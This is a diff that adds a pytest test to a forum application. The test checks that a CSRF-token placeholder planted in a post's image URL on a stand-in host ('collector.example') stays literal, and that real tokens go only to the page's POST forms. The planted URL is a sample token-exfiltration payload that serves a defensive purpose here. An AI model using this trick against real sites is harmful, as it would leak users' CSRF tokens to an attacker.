@@ -494,6 +494,28 @@ def test_a_page_that_asks_for_a_csrf_token_is_never_shared(rf):
     assert len(renders) == 2
 
 
+def test_a_post_body_holding_the_csrf_slot_keeps_it_and_only_the_forms_get_the_token(
+    client, thread, member
+):
+    import re
+
+    from forum.cache import _csrf_slot
+    from forum.markup import render_post_body
+
+    # An author who knows SECRET_KEY plants the slot where a token would reach their server.
+    planted = f"https://collector.example/{_csrf_slot()}.png"
+    body = f"![x]({planted})"
+    thread.posts.filter(position=2).update(body=body, body_html=render_post_body(body))
+    client.force_login(member)
+    page(client, thread.get_absolute_url())
+    html = page(client, thread.get_absolute_url())
+
+    assert f'src="{planted}"' in html
+    tokens = re.findall(r'name="csrfmiddlewaretoken" value="([^"]*)"', html)
+    assert len(tokens) == html.count('method="post"') > 1
+    assert all(re.fullmatch(r"[A-Za-z0-9]{64}", token) for token in tokens)
+
+
 # ---- touch: every write that changes a page, whatever the door ----------------------------
 
 
